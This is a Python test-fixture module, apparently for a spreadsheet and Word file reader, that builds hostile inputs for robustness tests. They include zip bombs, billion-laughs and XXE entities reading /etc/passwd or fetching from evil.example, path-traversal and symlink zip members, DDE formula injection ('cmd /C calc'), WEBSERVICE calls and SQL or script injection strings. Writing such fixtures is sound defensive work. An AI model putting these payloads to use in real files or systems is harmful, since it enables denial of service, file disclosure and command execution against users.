"""Files that nobody should have to open: bombs, lies, cut ends and things under a name that is not theirs.

`FILES` names them all; `write(folder, name)` builds one. A reader may refuse any of them with an `InspectionsError` or
read what is readable in it: it never crashes, hangs, unpacks without end, opens another file or asks the network.
"""

from __future__ import annotations

import codecs
import gzip
import io
import stat
import struct
import zipfile
from collections.abc import Callable, Mapping
from functools import cache, partial
from pathlib import Path

import docx
import openpyxl
import xlwt

from inspections.files.word import _MAX_CELLS

EVIL = "http://evil.example"
ROWS = (("检查对象名称", "统一社会信用代码", "风险等级"), ("阳城某某矿业有限公司", "91140522MA0GTXXX1X", "A"))
LAUGHS = (
    "<!DOCTYPE lolz [<!ENTITY lol0 '笑笑笑笑笑笑笑笑笑笑'>"
    + "".join(f"<!ENTITY lol{n} '{f'&lol{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)
OUTSIDE = "<!DOCTYPE r [<!ENTITY lol9 SYSTEM 'file:///etc/passwd'>]>"
ELSEWHERE = f"<!DOCTYPE r SYSTEM '{EVIL}/r.dtd' [<!ENTITY % p SYSTEM '{EVIL}/p'> %p; <!ENTITY lol9 'x'>]>"


# ---------------------------------------------------------------------------------------- honest files to begin with


@cache
def honest_xlsx() -> bytes:
    """A workbook of one heading and one row."""
    book = openpyxl.Workbook()
    for row in ROWS:
        book.active.append(row)
    return _saved(book.save)


@cache
def honest_xls() -> bytes:
    """The same as an old Excel file."""
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("名录")
    for r, row in enumerate(ROWS):
        for c, cell in enumerate(row):
            sheet.write(r, c, cell)
    return _saved(book.save)


@cache
def honest_docx() -> bytes:
    """The same as a table in a Word file."""
    document = docx.Document()
    table = document.add_table(rows=0, cols=len(ROWS[0]))
    for row in ROWS:
        for cell, text in zip(table.add_row().cells, row, strict=True):
            cell.text = text
    return _saved(document.save)


def honest_csv(encoding: str = "utf-8-sig") -> bytes:
    """The same as CSV."""
    return "\r\n".join(",".join(row) for row in ROWS).encode(encoding)


def _saved(save: Callable[[io.BytesIO], object]) -> bytes:
    out = io.BytesIO()
    save(out)
    return out.getvalue()


def with_parts(content: bytes, parts: Mapping[str, bytes | str]) -> bytes:
    """A zip file with some of its members put in place of, or beside, those it has."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for info in before.infolist():
            if info.filename not in parts:
                after.writestr(info, before.read(info))
        for name, part in parts.items():
            after.writestr(name, part)
    return out.getvalue()


def _put_before(content: bytes, name: str, more: str, tag: str) -> bytes:
    """An office file with `more` in one of its parts, before every closing `tag`."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        part = archive.read(name).decode()
    return with_parts(content, {name: part.replace(tag, more + tag)})


# ------------------------------------------------------------------------------------------------------------- bombs


@cache
def zip_bomb(name: str = "xl/worksheets/sheet1.xml", megabytes: int = 600, base: str = "xlsx") -> bytes:
    """A workbook or Word file of a few hundred kilobytes, one member of which unpacks to `megabytes` of blanks."""
    out = io.BytesIO()
    blanks = b" " * 1_000_000
    with (
        zipfile.ZipFile(io.BytesIO(honest_xlsx() if base == "xlsx" else honest_docx())) as before,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as after,
    ):
        for info in before.infolist():
            if info.filename != name:
                after.writestr(info, before.read(info))
        with after.open(name, "w") as part:
            part.write(b'<?xml version="1.0"?><worksheet><sheetData>')
            for _ in range(megabytes):
                part.write(blanks)
    return out.getvalue()


def lying_zip(name: str = "xl/worksheets/sheet1.xml", claimed: int = 1000) -> bytes:
    """The same bomb, whose directory claims that the member is short."""
    content = bytearray(zip_bomb(name))
    for signature, size_at, name_at in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        at = content.find(signature)
        while at >= 0:
            if content[at + name_at : at + name_at + len(name)] == name.encode():
                content[at + size_at : at + size_at + 4] = struct.pack("<I", claimed)
            at = content.find(signature, at + 4)
    return bytes(content)


def nested_zip(depth: int = 8) -> bytes:
    """Zip in zip in zip, the innermost of blanks."""
    inner = b" " * 10_000_000
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(4):
                archive.writestr(f"xl/{level}-{copy}.zip", inner)
        inner = out.getvalue()
    return inner


def overlapping_zip(copies: int = 2000) -> bytes:
    """One compressed member that the directory lists `copies` times, so that all names unpack the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/0000.xml", b" " * 1_000_000)
    content = out.getvalue()
    start = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    entry = content[start:end]
    listed = b"".join(entry.replace(b"0000", b"%04d" % n) for n in range(copies))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, copies, copies, len(listed), start, 0)
    return content[:start] + listed + tail


def many_members(count: int = 60_000) -> bytes:
    """A workbook with very many empty parts."""
    return with_parts(honest_xlsx(), {f"xl/worksheets/more{n}.xml": b"" for n in range(count)})


def gzipped() -> bytes:
    """A gzip bomb under the name of a table."""
    return gzip.compress(b" " * 50_000_000, compresslevel=1)


# ---------------------------------------------------------------------------------------------------------- entities


def _strings(doctype: str, text: str = "&lol9;") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        f'2006/main" count="6" uniqueCount="6">{f"<si><t>{text}</t></si>" * 6}</sst>'
    )


def xlsx_with_entities(doctype: str) -> bytes:
    """A workbook whose shared strings declare entities."""
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + "".join(
            f'<row r="{r}">{"".join(f"""<c r="{c}{r}" t="s"><v>{n}</v></c>""" for n, c in enumerate("ABC"))}</row>'
            for r in (1, 2)
        )
        + "</sheetData></worksheet>"
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
        ' Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    return with_parts(
        honest_xlsx(),
        {
            "xl/worksheets/sheet1.xml": sheet,
            "xl/sharedStrings.xml": _strings(doctype),
            "xl/_rels/workbook.xml.rels": rels,
        },
    )


def xlsx_sheet_with_entities(doctype: str) -> bytes:
    """A workbook whose sheet itself declares entities and uses them in an inline text."""
    return with_parts(
        honest_xlsx(),
        {
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{doctype}<worksheet xmlns="http://schemas.openxmlformats'
            '.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c>'
            "</row></sheetData></worksheet>"
        },
    )


def docx_with_entities(doctype: str) -> bytes:
    """A Word file whose text declares entities."""
    return with_parts(
        honest_docx(),
        {
            "word/document.xml": f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>'
        },
    )


def html_with_entities(doctype: str = LAUGHS) -> bytes:
    """A table as HTML, as some platforms write it under the name .xls."""
    table = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in ROWS)
    script = f'<script src="{EVIL}/x.js"></script><img src="{EVIL}/x.png">'
    return f"{doctype}<html><body>{script}<table>{table}<tr><td>&lol9;</td></tr></table></body></html>".encode()


def deep_html(depth: int = 100_000) -> bytes:
    """Elements in elements in elements."""
    return (
        b"<html><table><tr><td>" + b"<div>" * depth + "深".encode() + b"</div>" * depth + b"</td></tr></table></html>"
    )


def deep_docx(depth: int = 5_000) -> bytes:
    """A table in a table in a table."""
    opened, closed = "<w:tbl><w:tr><w:tc>" * depth, "</w:tc></w:tr></w:tbl>" * depth
    return with_parts(
        honest_docx(),
        {
            "word/document.xml": '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            f'wordprocessingml/2006/main"><w:body>{opened}<w:p/>{closed}</w:body></w:document>'
        },
    )


# ------------------------------------------------------------------------------------------------------------- sheets


def far_corner(cell: str = "XFD1048576") -> bytes:
    """A sheet of two cells, the first and a far one: a reader that fills in what lies between fills memory."""
    book = openpyxl.Workbook()
    book.active["A1"] = "检查对象名称"
    book.active[cell] = "角"
    return _saved(book.save)


def many_columns(count: int = 16_000) -> bytes:
    """A heading of very many columns."""
    book = openpyxl.Workbook()
    book.active.append([f"列{n}" for n in range(count)])
    return _saved(book.save)


def merged_sheet() -> bytes:
    """One merged area over all that a sheet can hold."""
    area = '<mergeCells count="1"><mergeCell ref="A2:XFD1048576"/></mergeCells>'
    return _put_before(honest_xlsx(), "xl/worksheets/sheet1.xml", area, "</worksheet>")


def repeated_cell(count: int = 400_000) -> bytes:
    """A sheet that compresses well: the same cell again and again."""
    rows = "<row><c><v>1</v></c></row>" * count
    return _put_before(honest_xlsx(), "xl/worksheets/sheet1.xml", rows, "</sheetData>")


def many_cells(count: int = _MAX_CELLS + 1) -> bytes:
    """Two rows of a Word table, of more cells than are read."""
    return _put_before(honest_docx(), "word/document.xml", "<w:tc><w:p/></w:tc>" * count, "</w:tr>")


def formulas() -> bytes:
    """Cells of formulas, links and a link to another workbook."""
    book = openpyxl.Workbook()
    book.active.append(ROWS[0])
    book.active.append([f'=HYPERLINK("{EVIL}","点")', "=1/0", "=cmd|' /C calc'!A0"])
    book.active.append([f'=WEBSERVICE("{EVIL}")', "=A1:XFD1048576", "=[1]Sheet1!A1"])
    book.active["A2"].hyperlink = EVIL
    return _saved(book.save)


def broken_references() -> bytes:
    """A sheet whose cells name strings and styles that are not there, at places that do not exist."""
    return with_parts(
        honest_xlsx(),
        {
            "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s" s="999"><v>4294967296</v></c>'
            '<c r="ZZZZ0" t="s"><v>-1</v></c><c r="" t="b"><v>x</v></c><c><v>1e999</v></c></row>'
            '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row></sheetData></worksheet>'
        },
    )


def external_relations(base: str) -> bytes:
    """A file whose relationships point outside: to another host and to a file of this one."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    more = (
        f'<Relationship Id="rIdx1" Type="{kind}/attachedTemplate" Target="{EVIL}/t.dotm" TargetMode="External"/>'
        f'<Relationship Id="rIdx2" Type="{kind}/image" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="rIdx3" Type="{kind}/worksheet" Target="../../../../etc/passwd"/>'
    )
    if base == "xlsx":
        return _put_before(honest_xlsx(), "xl/_rels/workbook.xml.rels", more, "</Relationships>")
    return _put_before(honest_docx(), "word/_rels/document.xml.rels", more, "</Relationships>")


# ---------------------------------------------------------------------------------------------------- names in zips


def odd_members(base: bytes | None = None) -> bytes:
    """A zip file with members that climb out, stand at the root, repeat a name, carry a NUL or are links."""
    out = io.BytesIO(with_parts(base or honest_xlsx(), {}))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name in ("../../climb.txt", "/etc/absolute.txt", "..\\..\\climb.txt", "C:\\windows\\x.txt", "a" * 30_000):
            archive.writestr(name, "x")
        link = zipfile.ZipInfo("link")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


# --------------------------------------------------------------------------------------------------------------- text


def nul_csv() -> bytes:
    """NUL bytes inside and between the cells."""
    return honest_csv().replace(b",", b"\x00,\x00") + b"\x00" * 5_000


def long_line(megabytes: int = 20) -> bytes:
    """One cell that never ends."""
    return "检查对象名称,统一社会信用代码\n".encode() + b"x" * (megabytes * 1_000_000)


def open_quote() -> bytes:
    """A quotation mark that nobody closes, before very many lines."""
    return '检查对象名称,统一社会信用代码\n"'.encode() + "甲,乙\n".encode() * 300_000


def wide_csv(columns: int = 1_000_000) -> bytes:
    """One row of very many cells."""
    return b"," * columns + b"\n"


def mixed_encodings() -> bytes:
    """Half UTF-8, half GB18030."""
    return honest_csv("utf-8") + b"\r\n" + honest_csv("gb18030") + b"\xff\xfe\x81\r\n"


def lone_surrogates() -> bytes:
    """UTF-16 with halves of characters."""
    return codecs.BOM_UTF16_LE + "名称,代码\n".encode("utf-16-le") + b"\x00\xd8,\x00\x00\xdc\n\x00" * 20


FORMULA_ROWS = "检查对象名称,统一社会信用代码,风险等级\n" + "".join(
    f'"{text}",91140522MA0GTXXX1X,A\n'
    for text in ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "'; drop table object; --", "<script>alert(1)</script>")
)


def _cut(build: Callable[[], bytes], share: float) -> bytes:
    content = build()
    return content[: int(len(content) * share)]


PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
PROGRAM = b"MZ\x90\x00" + bytes(range(256)) * 64
PDF = (
    b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 999999>>endobj"
)

FILES: dict[str, Callable[[], bytes]] = {
    "bomb.xlsx": zip_bomb,
    "bomb_strings.xlsx": partial(zip_bomb, "xl/sharedStrings.xml"),
    "bomb_elsewhere.xlsx": partial(zip_bomb, "docProps/core.bin.dat"),
    "bomb.docx": partial(zip_bomb, "word/document.xml", base="docx"),
    "lying.xlsx": lying_zip,
    "nested.xlsx": nested_zip,
    "overlapping.xlsx": overlapping_zip,
    "many_members.xlsx": many_members,
    "gzip.csv": gzipped,
    "laughs.xlsx": partial(xlsx_with_entities, LAUGHS),
    "outside.xlsx": partial(xlsx_with_entities, OUTSIDE),
    "elsewhere.xlsx": partial(xlsx_with_entities, ELSEWHERE),
    "laughs_sheet.xlsx": partial(xlsx_sheet_with_entities, LAUGHS),
    "outside_sheet.xlsx": partial(xlsx_sheet_with_entities, OUTSIDE),
    "laughs.docx": partial(docx_with_entities, LAUGHS),
    "outside.docx": partial(docx_with_entities, OUTSIDE),
    "elsewhere.docx": partial(docx_with_entities, ELSEWHERE),
    "laughs.xls": html_with_entities,
    "laughs.html": html_with_entities,
    "outside.xml": partial(html_with_entities, "<?xml version='1.0'?>" + OUTSIDE),
    "deep.xls": deep_html,
    "deep.docx": deep_docx,
    "far_corner.xlsx": far_corner,
    "far_row.xlsx": partial(far_corner, "AD1048576"),
    "repeated_cell.xlsx": repeated_cell,
    "many_cells.docx": many_cells,
    "many_columns.xlsx": many_columns,
    "merged.xlsx": merged_sheet,
    "formulas.xlsx": formulas,
    "broken_references.xlsx": broken_references,
    "external.xlsx": partial(external_relations, "xlsx"),
    "external.docx": partial(external_relations, "docx"),
    "odd_members.xlsx": odd_members,
    "odd_members.docx": lambda: odd_members(honest_docx()),
    "members_only.zip": lambda: odd_members(with_parts(_saved(lambda out: zipfile.ZipFile(out, "w").close()), {})),
    "nul.csv": nul_csv,
    "only_nul.csv": lambda: b"\x00" * 10_000,
    "long_line.csv": long_line,
    "open_quote.csv": open_quote,
    "wide.csv": wide_csv,
    "mixed.csv": mixed_encodings,
    "surrogates.csv": lone_surrogates,
    "mark_only.csv": lambda: codecs.BOM_UTF8,
    "lines_only.csv": lambda: b"\r\n" * 100_000,
    "formulas.csv": lambda: FORMULA_ROWS.encode("utf-8-sig"),
    "empty.xlsx": lambda: b"",
    "picture.xlsx": lambda: PNG,
    "picture.csv": lambda: PNG,
    "program.xls": lambda: PROGRAM,
    "program.csv": lambda: PROGRAM,
    "pdf.xls": lambda: PDF,
    "loop.pdf": lambda: PDF,
    "workbook.csv": honest_xlsx,
    "workbook.xls": honest_xlsx,
    "old_workbook.xlsx": honest_xls,
    "table.xlsx": honest_csv,
    "cut.xlsx": partial(_cut, honest_xlsx, 0.6),
    "cut_short.xlsx": lambda: honest_xlsx()[:30],
    "cut.xls": partial(_cut, honest_xls, 0.5),
    "cut_head.xls": lambda: honest_xls()[:512],
    "cut.docx": partial(_cut, honest_docx, 0.5),
    "cut.csv": lambda: honest_csv("utf-8")[:-7],
    "cut_gb.csv": lambda: honest_csv("gb18030")[:21],
    "flipped.xlsx": lambda: bytes(byte ^ (n % 97 == 0) for n, byte in enumerate(honest_xlsx())),
    "flipped.xls": lambda: bytes(byte ^ (n % 97 == 0) for n, byte in enumerate(honest_xls())),
}


def write(folder: Path, name: str) -> Path:
    """The file `name` of FILES, built in `folder`."""
    path = folder / name
    path.write_bytes(FILES[name]())
    return path
